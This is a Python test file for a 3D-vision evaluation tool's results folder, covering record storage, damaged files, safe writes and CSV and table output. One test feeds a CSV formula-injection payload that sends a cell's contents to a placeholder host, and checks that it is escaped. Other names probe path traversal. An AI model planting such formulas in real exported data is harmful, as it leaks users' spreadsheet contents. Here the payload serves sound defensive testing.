"""A results folder: whole files, one set of options, nothing lost and nothing counted twice."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from covis.engines.errors import CovisError
from covis.evaluation.accuracy.results import Results, check_results_folder, write_result
from covis.evaluation.datasets.truth import SceneRef
from tests.file_limit import file_limit

OPTIONS = {"protocol": 1, "sparsity": {"tau": 0.9, "layers": "0-9"}, "views": 10}


def record(name: str, **more: Any) -> dict[str, Any]:
    histograms = {"30": [0] * 29 + [1], "15": [0] * 15, "5": [0] * 5, "3": [0] * 3}
    return {"scene": name, "group": "g", "views": 2, "dropped_views": 0, "pairs": 1, "ate": 0.5,
            "histograms": histograms, "histograms_directed": histograms, **more}  # fmt: skip


def test_records_come_back(tmp_path: Path) -> None:
    results = Results(tmp_path / "new" / "out", OPTIONS)
    names = ["plain", "a/b c/../ü%", "x" * 300, "x" * 300 + "y", ".."]
    for i, name in enumerate(names):
        assert results.get(name) is None
        results.put(record(name, ate=float(i)))
    again = Results(tmp_path / "new" / "out", OPTIONS)
    for i, name in enumerate(names):
        found = again.get(name)
        assert found is not None and found["ate"] == i and found["scene"] == name
    folder = tmp_path / "new" / "out"
    assert {p.parent for p in folder.rglob("*.json")} == {folder, folder / "scenes"}
    results.put(record("plain", ate=9.0))
    assert len(list((folder / "scenes").iterdir())) == len(names)


def test_other_options_are_refused_by_name(tmp_path: Path) -> None:
    Results(tmp_path / "out", OPTIONS).put(record("a"))
    other = OPTIONS | {"sparsity": {"tau": 0.8, "layers": "0-9"}}
    with pytest.raises(CovisError, match=r"other options \(sparsity.tau: 0.9, now 0.8\)"):
        Results(tmp_path / "out", other)
    (tmp_path / "out" / "evaluation.json").write_text("{")
    with pytest.raises(CovisError, match="json: is damaged"):
        Results(tmp_path / "out", OPTIONS)


def test_folders_of_others_are_left_alone(tmp_path: Path) -> None:
    (tmp_path / "mine.txt").write_text("precious")
    for place in (tmp_path, tmp_path / "mine.txt"):
        with pytest.raises(CovisError, match="holds no evaluation"):
            Results(place, OPTIONS)
    assert [p.name for p in tmp_path.iterdir()] == ["mine.txt"]
    # What a process leaves that was killed in its first write.
    for name in (".evaluation.json.12345678.partial", "settings/dense/.evaluation.json.1.partial"):
        (tmp_path / "empty" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "empty" / name).write_text("{")
    check_results_folder(tmp_path / "empty", "settings/dense/evaluation.json", "sweep")
    Results(tmp_path / "empty", OPTIONS)


def test_damaged_or_foreign_records_are_done_again(tmp_path: Path) -> None:
    results = Results(tmp_path / "out", OPTIONS)
    results.put(record("a"))
    text = results.path("a").read_text()
    for broken in (text[: len(text) // 2], "", "[]", text.replace(results.fingerprint, "0" * 64),
                   text.replace('"scene": "a"', '"scene": "b"'), "[" * 100_000,
                   json.dumps({**json.loads(text), "views": None}),
                   json.dumps({**json.loads(text), "seconds": "x"})):  # fmt: skip
        results.path("a").write_text(broken)
        assert results.get("a") is None
    results.path("a").write_text(text)
    assert results.get("a") is not None


def test_summary_and_table_hold_each_chosen_scene_once(tmp_path: Path) -> None:
    results = Results(tmp_path / "out", OPTIONS)
    for name in ("a", "b", "c"):
        results.put(record(name))
    report = results.finish([SceneRef("a", "g"), SceneRef("c", "g"), SceneRef("d", "g")],
                            {"d": "d: is broken"})  # fmt: skip
    assert [r["scene"] for r in report["scenes"]] == ["a", "c"]
    assert json.loads((tmp_path / "out" / "results.json").read_text()) == report
    assert report["failed"] == {"d": "d: is broken"} and report["summary"]["scenes"] == 2
    assert report["options"] == OPTIONS
    with (tmp_path / "out" / "results.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["scene"] for row in rows] == ["a", "c"] and rows[0]["ate"] == "0.5"


def test_full_disk_keeps_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "file.json"
    write_result(path, "old")
    wrong = r"file.json: cannot be written \(File too large\)"
    with file_limit(1 << 11), pytest.raises(CovisError, match=wrong):
        write_result(path, "new" * 1000)
    assert path.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["file.json"]


def test_a_place_that_became_unwritable_is_refused_before_the_work(tmp_path: Path) -> None:
    Results(tmp_path / "out", OPTIONS).put(record("a"))
    wrong = r"cannot be written \(File too large\); check free space and rights, then run the same"
    with file_limit(0), pytest.raises(CovisError, match=wrong):
        Results(tmp_path / "out", OPTIONS)


def test_scene_names_are_no_formulas(tmp_path: Path) -> None:
    results = Results(tmp_path / "out", OPTIONS)
    name = '=HYPERLINK("http://a.b/?"&A2)'
    results.put(record(name, group="+g", ate=-0.5))
    results.finish([SceneRef(name, "+g")], {})
    with (tmp_path / "out" / "results.csv").open(newline="") as file:
        [row] = csv.DictReader(file)
    assert (row["scene"], row["group"], row["ate"]) == (f"'{name}", "'+g", "-0.5")
    assert results.get(name) is not None


def printed(report: dict[str, Any]) -> list[list[str]]:
    from rich.console import Console

    from covis.evaluation.accuracy.tables import table

    console = Console(width=300)
    with console.capture() as capture:
        console.print(table(report))
    return [line.split() for line in capture.get().splitlines()]


def test_tables_list_scenes_or_groups(tmp_path: Path) -> None:
    results = Results(tmp_path / "out", OPTIONS)
    refs = [SceneRef(f"s{i:02d}", "ab"[i % 2]) for i in range(50)]
    for ref in refs:
        lost = {"ate": None} if ref.name == "s00" else {}
        results.put(record(ref.name, group=ref.group, auc30=1 / 30, **lost))
    few = printed(results.finish(refs[:3], {}))
    assert few[0] == ["scene", "views", "AUC@30", "@15", "@5", "@3", "ATE"]
    assert [row[0] for row in few[1:]] == ["s00", "s01", "s02", "all"]
    assert few[1][-1] == "-" and few[2][-1] == "0.5" and few[2][2] == "0.0333"
    many = printed(results.finish(refs, {}))
    assert [row[0] for row in many[1:]] == ["a", "b", "all"]
    assert many[3][:3] == ["all", "(50)", "100"]
